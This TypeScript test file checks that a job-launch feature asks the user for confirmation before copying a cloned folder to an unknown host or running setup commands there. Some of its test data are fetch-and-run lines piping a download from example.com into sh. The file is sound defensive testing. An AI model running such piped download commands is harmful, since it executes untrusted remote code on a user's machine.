import * as assert from 'assert';
import { confirmationKey, launchConfirmation } from '../../../src/jobs/launchConfirmation';
import { parseLaunchConfigurations, type LaunchConfiguration } from '../../../src/jobs/launchConfig';

const folder = { uri: 'file:///home/me/cloned-repo', name: 'cloned-repo' };

function configuration(fields: Record<string, unknown>): LaunchConfiguration {
  return parseLaunchConfigurations(JSON.stringify({ configurations: [{ name: 'train', script: 'train.py', ...fields }] }))[0];
}

describe('launch configuration confirmation', () => {
  it('asks before sending the folder to a host of no setting of the user, naming it and the setup commands', () => {
    const config = configuration({ targets: ['u@somewhere'], setup: ['curl https://example.com/x | sh'] });
    const confirmation = launchConfirmation(folder, config, [{ name: 'u@somewhere' }]);
    assert.ok(confirmation);
    assert.strictEqual(confirmation.question, 'The launch configuration "train" sends this folder to u@somewhere. Launch it?');
    assert.match(confirmation.detail, /^The folder cloned-repo is copied to:\n {2}• u@somewhere: not one of your Azure VMs or SSH hosts$/m);
    assert.match(confirmation.detail, /These setup commands run there before the script:\n {2}\$ curl https:\/\/example\.com\/x \| sh$/m);
  });

  it("asks for setup commands even on the user's own machines, or machines picked at launch", () => {
    const onOwnVm = launchConfirmation(folder, configuration({ targets: ['gpu-a100-1'], setup: ['pip install -e .'] }), [
      { name: 'gpu-a100-1', known: 'your Azure VM gpu-a100-1 (rg, size)' },
    ]);
    assert.ok(onOwnVm);
    assert.match(onOwnVm.question, /runs setup commands/);
    assert.match(onOwnVm.detail, /• gpu-a100-1: your Azure VM gpu-a100-1/);
    const picked = launchConfirmation(folder, configuration({ setup: ['make data'] }), []);
    assert.ok(picked);
    assert.match(picked.detail, /copied to the machines you choose/);
  });

  it("needs none for the user's own machines without setup commands, nor for machines picked at launch", () => {
    assert.strictEqual(
      launchConfirmation(folder, configuration({ targets: ['lab'] }), [{ name: 'lab', known: 'one of your SSH hosts' }]),
      undefined,
    );
    assert.strictEqual(launchConfirmation(folder, configuration({ args: ['--epochs', '3'] }), []), undefined);
  });

  it('keys the confirmation by folder and by the targets, setup, requirements and interpreter; not by the arguments', () => {
    const base = configuration({ targets: ['u@somewhere'], setup: ['make'] });
    const key = confirmationKey(folder.uri, base);
    assert.match(key, /^[0-9a-f]{64}$/);
    assert.strictEqual(confirmationKey(folder.uri, configuration({ targets: ['u@somewhere'], setup: ['make'], args: ['--lr', '1'] })), key);
    for (const changed of [
      configuration({ targets: ['u@elsewhere'], setup: ['make'] }),
      configuration({ targets: ['u@somewhere'], setup: ['make', 'curl x | sh'] }),
      configuration({ targets: ['u@somewhere'], setup: ['make'], requirements: 'req.txt' }),
      configuration({ targets: ['u@somewhere'], setup: ['make'], python: '/opt/py/bin/python' }),
      { ...base, name: 'other' },
    ]) {
      assert.notStrictEqual(confirmationKey(folder.uri, changed), key, JSON.stringify(changed));
    }
    assert.notStrictEqual(confirmationKey('file:///home/me/another-clone', base), key);
    assert.strictEqual(launchConfirmation(folder, base, [{ name: 'u@somewhere' }])?.key, key);
  });
});
